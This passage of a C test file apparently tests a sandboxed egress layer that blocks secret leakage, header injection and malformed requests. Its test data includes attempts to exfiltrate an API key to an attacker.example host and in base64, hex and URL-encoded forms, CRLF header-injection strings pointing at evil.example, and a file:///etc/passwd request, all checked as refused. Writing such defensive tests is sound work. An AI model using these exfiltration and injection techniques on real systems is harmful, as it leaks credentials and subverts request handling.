	long before = server_count(&h);
	char *denies, *all;

	URL(dest, "http://127.0.0.1:%u", h.port);
	add_secret(e, "api_key", key, "Authorization: Bearer {}", dest);
	grant(e, "network:http://127.0.0.1:%u", h.port);
	grant(e, "network:http://*:*");
	grant(e, "secret:api_key");

	/* in the URL: the query, and the host name (no DNS lookup either) */
	URL(url, "http://127.0.0.1:%u/echo?k=%s", h.port, key);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "the URL contains the value of secret:api_key (raw)");
	CHECK(strstr(e->reason, key) == NULL);
	CHECK_EQ_INT(fetch(e, "GET", "http://sk-live-7hq2xz0plm4.attacker.example/"),
	             BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "secret:api_key");

	URL(url, "http://127.0.0.1:%u/echo", h.port);
	/* in a header */
	URL(buf, "X-Leak: %s", key);
	CHECK_EQ_INT(fetch_full(e, "GET", url, buf, NULL, 0), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "a request header contains the value of secret:api_key");
	/* base64 in the body, at an offset */
	URL(buf, "xy%s", key);
	b64(buf, enc);
	URL(buf, "{\"data\":\"%s\"}", enc);
	CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, buf, strlen(buf)), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "the request body contains the value of secret:api_key (base64)");
	/* hex */
	{
		size_t o = 0;
		for (const char *p = key; *p; p++)
			o += (size_t)snprintf(buf + o, sizeof(buf) - o, "%02X", (unsigned char)*p);
	}
	CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, buf, strlen(buf)), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "(hex)");
	/* URL-encoded, every byte */
	{
		size_t o = 0;
		o += (size_t)snprintf(buf, sizeof(buf), "http://127.0.0.1:%u/echo?k=", h.port);
		for (const char *p = key; *p; p++)
			o += (size_t)snprintf(buf + o, sizeof(buf) - o, "%%%02x",
			                      (unsigned char)*p);
	}
	CHECK_EQ_INT(fetch(e, "GET", buf), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "(url-encoded)");

	/* Nothing of it reached the server. */
	CHECK_EQ_INT(server_count(&h), before + 1);

	denies = audit_lines(e, "deny");
	CHECK_EQ_UINT(count_lines(denies), 6);
	CHECK_CONTAINS(denies, "\"capability\":\"secret\"");
	CHECK_CONTAINS(denies, "withheld");
	free(denies);
	/* The value appears nowhere in the log, in any of those forms. */
	all = audit_lines(e, NULL);
	CHECK(strstr(all, key) == NULL);
	CHECK(strstr(all, "%73%6b") == NULL);
	CHECK(strstr(all, "sk-live-7hq2xz0plm4") == NULL);
	free(all);

	/* A clean request still works, with the secret injected. */
	CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, "hello", 5), BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "Bearer [secret:api_key]");
	env_free(e);
}

/* -------------------------------------------------------- request hygiene */

TEST(proxy_environment_is_ignored)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];

	setenv("http_proxy", "http://127.0.0.1:1", 1);
	setenv("HTTP_PROXY", "http://127.0.0.1:1", 1);
	setenv("https_proxy", "http://127.0.0.1:1", 1);
	setenv("ALL_PROXY", "http://127.0.0.1:1", 1);
	setenv("all_proxy", "socks5://127.0.0.1:1", 1);
	unsetenv("no_proxy");
	unsetenv("NO_PROXY");
	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_STR(body(e), "hello from httpd\n");
	env_free(e);
}

TEST(header_injection_and_host_headers_are_refused)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	long before = server_count(&h);
	const char *bad[] = {
	        "X-A: b\r\nHost: evil.example",
	        "X-A: b\rX-Injected: 1",
	        "Host: evil.example",
	        "content-length: 5",
	        "Transfer-Encoding: chunked",
	        "Connection: keep-alive",
	        "Proxy-Authorization: Basic eA==",
	        "Upgrade: h2c",
	        "Bad Name: x",
	        "NoColon",
	        ": empty-name",
	        "X-A: ok\n folded",
	        "X-A: \x01",
	};
	char *denies;

	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/echo", h.port);
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		if (fetch_full(e, "GET", url, bad[i], NULL, 0) != BA_EGRESS_INVALID)
			ba_test_fail(__FILE__, __LINE__, "headers \"%s\" were not refused: %s",
			             bad[i], e->reason);
	}
	CHECK_EQ_INT(fetch_full(e, "GET", url, "Host: x", NULL, 0), BA_EGRESS_INVALID);
	CHECK_CONTAINS(e->reason, "Host");
	/* a NUL inside the header block */
	{
		ba_egress *eg = ba_egress_new(&e->cfg);
		ba_egress_request req = {.method = "GET",
		                         .url = url,
		                         .headers = "X-A: a\0Host: x",
		                         .headers_len = 14};
		ba_egress_response_release(&e->resp);
		CHECK_EQ_INT(ba_egress_fetch(eg, &req, &e->resp, e->reason, sizeof(e->reason)),
		             BA_EGRESS_INVALID);
		ba_egress_free(eg);
	}
	/* over-long lines and blocks */
	{
		size_t n = BA_EGRESS_MAX_HEADERS_BYTES + 10;
		char *big = malloc(n + 1);
		CHECK(big != NULL);
		memcpy(big, "X-Big: ", 7);
		memset(big + 7, 'a', n - 7);
		big[9000] = '\0';
		CHECK_EQ_INT(fetch_full(e, "GET", url, big, NULL, 0), BA_EGRESS_INVALID);
		big[9000] = 'a';
		big[n] = '\0';
		CHECK_EQ_INT(fetch_full(e, "GET", url, big, NULL, 0), BA_EGRESS_TOO_LARGE);
		free(big);
	}
	CHECK_EQ_INT(server_count(&h), before + 1);
	denies = audit_lines(e, "deny");
	CHECK(count_lines(denies) >= sizeof(bad) / sizeof(bad[0]));
	free(denies);

	/* Blank lines and CRLF endings are fine. */
	CHECK_EQ_INT(fetch_full(e, "GET", url, "\r\nX-One: 1\r\n\r\nX-Two:  2  \r\n", NULL, 0),
	             BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"x-one\":\"1\"");
	CHECK_CONTAINS(body(e), "\"x-two\":\"2\"");
	env_free(e);
}

TEST(malformed_requests_are_invalid)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];

	grant(e, "network:http://*:*");
	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "get", url), BA_EGRESS_INVALID);
	CHECK_CONTAINS(e->reason, "method");
	CHECK_EQ_INT(fetch(e, "TRACE", url), BA_EGRESS_INVALID);
	CHECK_EQ_INT(fetch(e, "CONNECT", url), BA_EGRESS_INVALID);
	CHECK_EQ_INT(fetch(e, "GET", "ftp://127.0.0.1/x"), BA_EGRESS_INVALID);
	CHECK_EQ_INT(fetch(e, "GET", "file:///etc/passwd"), BA_EGRESS_INVALID);
	CHECK_EQ_INT(fetch(e, "GET", "http://user:pw@example.com/"), BA_EGRESS_INVALID);
	CHECK_CONTAINS(e->reason, "userinfo");
	CHECK_EQ_INT(fetch(e, "GET", ""), BA_EGRESS_INVALID);
	CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, NULL, 5), BA_EGRESS_INVALID);
	CHECK_EQ_STR(ba_egress_result_name(BA_EGRESS_TOO_LARGE), "TOO_LARGE");
	CHECK_EQ_STR(ba_egress_result_name(BA_EGRESS_OK), "OK");
	env_free(e);
}

TEST(works_without_an_audit_log)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];

	e->cfg.audit = NULL;
	e->cfg.secrets = NULL;
	e->cfg.tool_name = NULL;
	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/html", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "<title>");
	URL(url, "http://127.0.0.1:%u/text", h.port + 1 > 65535 ? 1 : h.port + 1);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "is not granted to the tool");
	env_free(e);
}

TEST(connection_refused_is_failed)
{
	struct env *e = env_new();
	char url[256];
	unsigned port = ba_test_closed_port(); /* nothing listens there */

	grant(e, "network:http://127.0.0.1:%u", port);
	URL(url, "http://127.0.0.1:%u/", port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_FAILED);
	CHECK_CONTAINS(e->reason, "failed");
	env_free(e);
}
